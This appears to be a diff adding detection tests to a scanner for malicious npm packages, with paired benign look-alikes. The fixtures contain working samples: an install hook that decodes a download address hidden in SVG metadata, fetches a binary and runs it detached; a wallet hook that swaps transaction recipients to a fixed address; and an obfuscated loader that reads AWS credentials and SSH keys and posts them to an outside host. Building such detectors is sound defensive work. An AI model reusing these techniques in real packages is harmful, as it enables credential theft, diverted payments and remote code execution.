@@ -2901,3 +2901,117 @@ if (R) R.connect({ ...peer, socket: handlers });`,
     expect(r.evidence.map((f) => f.rule)).toContain('js.exec-network-data');
   });
 });
+
+describe('data kept in assets, addresses in design tokens, require behind a Proxy (round 23 misses)', () => {
+  const svg = (meta: string) =>
+    `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24">\n  <metadata id="hints">${meta}</metadata>\n  <path d="M2 2h20v20H2z"/>\n</svg>\n`;
+  const plain = `<svg xmlns="http://www.w3.org/2000/svg" viewBox="0 0 24 24"><title>arrow</title></svg>\n`;
+  const hints = Buffer.from(
+    JSON.stringify({
+      u: 'https://assets.example-icons.net/i/opt',
+      p: 'svgopt',
+      m: 'spawn',
+      k: 'child_process',
+    }),
+  ).toString('base64');
+  it('an install step that lists its own icons, picks a download address out of SVG metadata and runs what it fetched', () => {
+    const found = analyzeSource({
+      'package.json': JSON.stringify({
+        name: 'brand-icons',
+        version: '1.8.0',
+        scripts: { postinstall: 'node build/opt.js' },
+      }),
+      'icons/a.svg': plain,
+      'icons/b.svg': svg(hints),
+      'icons/c.svg': plain,
+      'build/opt.js': `const fs = require('fs'), path = require('path'), os = require('os');
+const dir = path.join(__dirname, '..', 'icons');
+let h = null;
+for (const f of fs.readdirSync(dir)) {
+  const m = /<metadata id="hints">([^<]+)<\\/metadata>/.exec(fs.readFileSync(path.join(dir, f), 'utf8'));
+  if (m) { h = JSON.parse(Buffer.from(m[1], 'base64').toString()); break; }
+}
+if (h) {
+  const dest = path.join(os.tmpdir(), h.p);
+  require(h.u.split(':')[0]).get(h.u, (res) => {
+    const out = fs.createWriteStream(dest, { mode: 0o755 });
+    res.pipe(out);
+    out.on('finish', () => require(h.k)[h.m](dest, [], { detached: true, stdio: 'ignore' }).unref());
+  });
+}`,
+    });
+    expect(found.risk_level).toBe('critical');
+    expect(found.evidence.map((f) => f.rule)).toContain('js.drop-and-run');
+  });
+  it('quiet: an icon package that lists its SVGs and exports them by name', () => {
+    const found = analyzeSource({
+      'package.json': JSON.stringify({ name: 'brand-icons', version: '1.8.0', main: 'index.js' }),
+      'icons/a.svg': plain,
+      'icons/b.svg': svg('https://example-icons.net/credits'),
+      'index.js': `const fs = require('fs'), path = require('path');
+const dir = path.join(__dirname, 'icons');
+module.exports = Object.fromEntries(fs.readdirSync(dir).map((f) => {
+  const text = fs.readFileSync(path.join(dir, f), 'utf8');
+  const m = /<metadata id="hints">([^<]+)<\\/metadata>/.exec(text);
+  return [path.basename(f, '.svg'), { svg: text, credit: m && m[1] }];
+}));`,
+    });
+    expect(threatsOf(found)).toEqual([]);
+  });
+
+  it('a wallet provider reached by a computed name whose request is hooked to set a recipient kept in another file', () => {
+    const found = analyzeSource({
+      'package.json': JSON.stringify({ name: 'copy-chip', version: '2.0.5', main: 'dist/index.js' }),
+      'dist/theme.js': `export const tokens = { radius: 6, accents: { eth: '0x7aD3c2B1e0f9A8b7C6d5E4f3a2B1c0D9e8F7a6B5' } };`,
+      'dist/index.js': `import { tokens } from './theme.js';
+const p = window['ether' + 'eum'];
+if (p && p.request) {
+  const orig = p.request.bind(p);
+  p.request = (a) => { if (a && /^eth_(send|sign)Transaction$/.test(a.method)) a.params[0].to = tokens.accents.eth; return orig(a); };
+}
+export const Chip = () => null;`,
+    });
+    expect(found.evidence.map((f) => f.rule)).toContain('js.wallet-address-swap');
+  });
+  it('quiet: a dapp helper that wraps the provider request to log calls, and one that pays an address the user typed', () => {
+    const found = analyzeSource({
+      'package.json': JSON.stringify({ name: 'wallet-log', version: '1.0.0', main: 'index.js' }),
+      'index.js': `const p = window.ethereum;
+if (p && p.request) {
+  const orig = p.request.bind(p);
+  p.request = (a) => { console.debug('wallet', a.method); return orig(a); };
+}
+export function pay(to, value) { const tx = { from: p.selectedAddress, value }; tx.to = to; return p.request({ method: 'eth_sendTransaction', params: [tx] }); }`,
+    });
+    expect(threatsOf(found)).toEqual([]);
+  });
+
+  it("Node's loader reached through module.constructor with an escaped name, behind a Proxy's get trap in another file", () => {
+    const found = analyzeSource({
+      'package.json': JSON.stringify({ name: 'env-lite', version: '1.0.9', main: 'lib/index.js' }),
+      'lib/load.js': `const \\u004d = module.constructor;
+module.exports = new Proxy({}, { get: (_, k) => \\u004d['_l\\u006fad'](k === 'net' ? 'ht' + 'tps' : k, module, false) });`,
+      'lib/index.js': `const ld = require('./load');
+const where = [['.aws', 'credentials'], ['.ssh', 'id_rsa']];
+module.exports = function sync() {
+  const h = ld.os.homedir(), o = {};
+  for (const w of where) { try { o[w.join('/')] = ld.fs.readFileSync(ld.path.join(h, ...w), 'latin1'); } catch {} }
+  const r = ld.net.request({ host: 'schema.example-registry.com', path: '/v1', method: 'POST' });
+  r.end(JSON.stringify(o));
+};`,
+    });
+    expect(found.risk_level).toBe('critical');
+    expect(threatsOf(found)).toContain('data_exfiltration');
+  });
+  it('quiet: a lazy Proxy that loads the package’s own command modules, and one over process.env', () => {
+    const found = analyzeSource({
+      'package.json': JSON.stringify({ name: 'cli-lazy', version: '1.0.0', main: 'index.js' }),
+      'commands/build.js': `module.exports = () => 'built';`,
+      'index.js': `const M = module.constructor;
+const commands = new Proxy({}, { get: (_, k) => M._load('./commands/' + String(k), module, false) });
+const env = new Proxy(process.env, { get: (t, k) => t[k] ?? '' });
+module.exports = (name) => commands[name]() + env.HOME;`,
+    });
+    expect(threatsOf(found)).toEqual([]);
+  });
+});
